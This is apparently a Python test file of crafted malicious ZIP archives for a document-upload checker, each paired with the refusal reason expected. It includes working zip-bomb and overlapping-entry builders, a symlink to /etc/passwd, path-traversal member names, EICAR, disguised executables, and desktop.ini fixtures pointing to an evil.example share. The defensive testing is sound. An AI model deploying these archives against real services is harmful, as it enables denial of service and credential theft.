"""Archives that lie, swell, nest, overlap, escape or hide."""

import io
import stat
import struct
import zipfile
from functools import partial

from storage.documents.checks.refusals import Reason
from tests.storage.documents.corpus.case import Case
from tests.storage.documents.corpus.making import EICAR, archive, blank_pdf, image, word

PNG_START = b"\x89PNG\r\n\x1a\n" + bytes(8)


def nested(depth: int) -> bytes:
    """A PDF in `depth` archives, one in another."""
    made, name = blank_pdf(), "a.pdf"
    for _ in range(depth):
        made, name = archive({name: made}), "b.zip"
    return made


def flat_bomb() -> bytes:
    """72 MB of zeros in 72 kB."""
    return archive({f"{n}.png": image("PNG") + bytes(36 << 20) for n in range(2)})


def wide_bomb() -> bytes:
    """Sixteen archives of 10 MB of zeros each, 42.zip's way."""
    inner = archive({f"{n}.png": image("PNG") + bytes(10 << 20) for n in range(2)})
    return archive({f"{n}.zip": inner for n in range(16)})


def overlapping() -> bytes:
    """Two entries of the directory for one record (the trick of overlapping bombs)."""
    made = archive({"a.pdf": blank_pdf()}, method=zipfile.ZIP_STORED)
    start = made.index(b"PK\1\2")
    end = made.index(b"PK\5\6")
    entry = made[start:end]
    doubled = entry + entry.replace(b"a.pdf", b"b.pdf")
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, len(doubled), start, 0)
    return made[:start] + doubled + tail


def flagged(bit: int) -> bytes:
    """An archive whose member says that it is encrypted."""
    made = bytearray(archive({"a.pdf": blank_pdf()}))
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        where = made.index(mark) + offset
        made[where] |= bit
    return bytes(made)


def lying_about_size() -> bytes:
    """A member that says one byte and inflates to thousands."""
    made = bytearray(archive({"a.pdf": b"%PDF-1.7\n" + b"x" * 9000}))
    where = made.index(b"PK\1\2") + 24
    made[where : where + 4] = (1).to_bytes(4, "little")
    return bytes(made)


def symbolic_link() -> bytes:
    """A link to a file of the machine."""
    made = io.BytesIO()
    link = zipfile.ZipInfo("avis.pdf")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(made, "w") as out:
        out.writestr(link, "/etc/passwd")
    return made.getvalue()


def duplicated() -> bytes:
    """Two members of one name: which one opens depends on the program."""
    made = bytearray(archive({"a.pdf": blank_pdf(), "b.pdf": blank_pdf()}))
    return bytes(made.replace(b"b.pdf", b"a.pdf"))


def with_litter(litter: dict[str, bytes]) -> bytes:
    """An archive of a PDF, with what a system left in it."""
    return archive({"a.pdf": blank_pdf()} | litter)


PROGRAM = b"MZ\x90\0" + bytes(60)
DOUBLE = b"\0\5\x16\7\0\2\0\0Mac OS X" + bytes(60)
LITTER = (
    ("its own files", "__MACOSX/._a.pdf", DOUBLE, None),
    ("its own files in a folder", "__MACOSX/lettres/._a.pdf", DOUBLE, None),
    ("a folder's view", "lettres/.DS_Store", b"\0\0\0\1Bud1" + bytes(40), None),
    ("Windows' pictures", "Thumbs.db", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60), None),
    ("Windows' settings", "desktop.ini", b"[.ShellClassInfo]\r\nLocalizedResourceName=@shell32.dll,-21770\r\n", None),
    ("a PDF in its folder", "__MACOSX/b.pdf", blank_pdf(), None),
    ("a program in its folder", "__MACOSX/setup.exe", PROGRAM, Reason.FORBIDDEN),
    ("a program called like its files", "__MACOSX/._setup.exe", PROGRAM, Reason.FORBIDDEN),
    ("a program under its name", "__MACOSX/._a.pdf", PROGRAM, Reason.DISGUISED),
    ("a page in its folder", "__MACOSX/a.hta", b"<html><script>x</script></html>", Reason.FORBIDDEN),
    ("a shortcut in its folder", "__MACOSX/a.lnk", b"L\0\0\0\1\x14\2\0" + bytes(60), Reason.FORBIDDEN),
    ("macros in its folder", "__MACOSX/a.docx", word({"word/vbaProject.bin": b"x"}), Reason.ACTIVE),
    ("a bomb in its folder", "__MACOSX/._b", bytes(70 << 20), Reason.BOMB),
    ("a program called a folder's view", ".DS_Store", PROGRAM, Reason.FORBIDDEN),
    ("a program called Windows' pictures", "Thumbs.db", PROGRAM, Reason.FORBIDDEN),
    (
        "settings that tell a share",
        "desktop.ini",
        b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\a\\b.ico",
        Reason.FORBIDDEN,
    ),
    (
        "settings that tell a share in UTF-16",
        "desktop.ini",
        "[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\b".encode("utf-16"),
        Reason.FORBIDDEN,
    ),
)

CASES = (
    Case("a ZIP in a ZIP in a ZIP", "a.zip", lambda: nested(3)),
    Case("a ZIP four deep", "a.zip", lambda: nested(4), Reason.BOMB),
    Case("a ZIP ten deep with a virus", "a.zip", lambda: nested(10), Reason.BOMB),
    Case("a flat bomb", "a.zip", flat_bomb, Reason.BOMB),
    Case("a bomb of bombs", "a.zip", wide_bomb, Reason.BOMB),
    Case("an overlapping bomb", "a.zip", overlapping, Reason.BOMB),
    Case("2001 members", "a.zip", lambda: archive({f"{n}.png": PNG_START for n in range(2001)}), Reason.BOMB),
    Case("a ZIP under a password", "a.zip", lambda: flagged(1), Reason.PROTECTED),
    Case("a ZIP under strong encryption", "a.zip", lambda: flagged(0x41), Reason.PROTECTED),
    Case("a member that lies about its size", "a.zip", lying_about_size, Reason.UNREADABLE),
    Case("a truncated ZIP", "a.zip", lambda: nested(1)[:-30], Reason.UNREADABLE),
    Case("a ZIP compressed in BZIP2", "a.zip", lambda: archive({"a.pdf": b"x"}, method=12), Reason.UNREADABLE),
    Case("two members of one name", "a.zip", duplicated, Reason.UNREADABLE),
    Case("a symbolic link", "a.zip", symbolic_link, Reason.NAME),
    Case("a member that climbs out", "a.zip", lambda: archive({"../../a.pdf": blank_pdf()}), Reason.NAME),
    Case("an absolute member", "a.zip", lambda: archive({"/srv/a.pdf": blank_pdf()}), Reason.NAME),
    Case("a member on a disk of Windows", "a.zip", lambda: archive({"C:/a.pdf": blank_pdf()}), Reason.NAME),
    Case("EICAR in a ZIP", "a.zip", lambda: archive({"eicar.com": EICAR}), Reason.FORBIDDEN),
    Case("a page in a ZIP, called PDF", "a.zip", lambda: archive({"a.pdf": b"<html></html>    "}), Reason.DISGUISED),
    Case("a program before a ZIP", "a.zip", lambda: b"MZ" + bytes(90) + nested(1), Reason.DISGUISED),
    *(
        Case(f"an archive of macOS with {about}", "a.zip", partial(with_litter, {name: content}), verdict)
        for about, name, content, verdict in LITTER
    ),
    Case("a record before the first of a ZIP", "a.zip", lambda: nested(1)[:60] + nested(1), Reason.POLYGLOT),
)
